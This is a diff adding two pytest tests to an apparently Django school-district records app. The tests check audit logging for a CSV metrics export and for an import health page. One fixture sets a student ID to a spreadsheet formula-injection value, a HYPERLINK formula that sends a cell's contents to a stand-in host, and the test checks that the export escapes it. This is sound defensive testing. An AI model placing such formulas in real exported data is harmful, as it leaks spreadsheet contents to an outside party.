@@ -132,3 +132,28 @@ def test_the_django_admin_records_the_students_it_lists_per_district(tenant_a, t
     what = "admin:students.student"
     assert by_district[tenant_a.district.pk] == [(what, a, root.email), (what, [records_a.student.pk], root.email)]
     assert by_district[tenant_b.district.pk] == [(what, b, root.email)]
+
+
+def test_export_metrics_records_every_student_it_wrote_and_escapes_formulas(tenant_a, tmp_path):
+    from django.core.management import call_command
+
+    from .outreach_support import student_at
+
+    with scope(district=tenant_a.district):
+        plain = student_at(tenant_a.school, sis_id="S-100")
+        formula = student_at(tenant_a.school, sis_id='=HYPERLINK("http://x.example/?"&A1)')
+    out = tmp_path / "metrics.csv"
+    call_command("export_metrics", district="alpha", out=str(out), stdout=io.StringIO())
+    rows = list(csv.reader(out.open()))
+    assert sorted(row[0] for row in rows[1:]) == sorted(["S-100", "'" + formula.sis_id])
+    (event,) = _events(tenant_a.district)
+    assert (event.object_type, event.action, event.user) == ("export_metrics", "export", None)
+    assert event.students == sorted([plain.pk, formula.pk]) and event.detail["rows"] == 2
+
+
+def test_the_import_health_page_records_the_students_it_names(tenant_a, records_a, login):
+    client = login(tenant_a.user(Role.DISTRICT_ADMIN))
+    page = client.get(reverse("imports:health", kwargs={"district": "alpha"})).content.decode()
+    assert records_a.other_student.full_name in page  # enrolled, no guardian contact
+    (event,) = _events(tenant_a.district)
+    assert event.object_type == "import_health" and records_a.other_student.pk in event.students
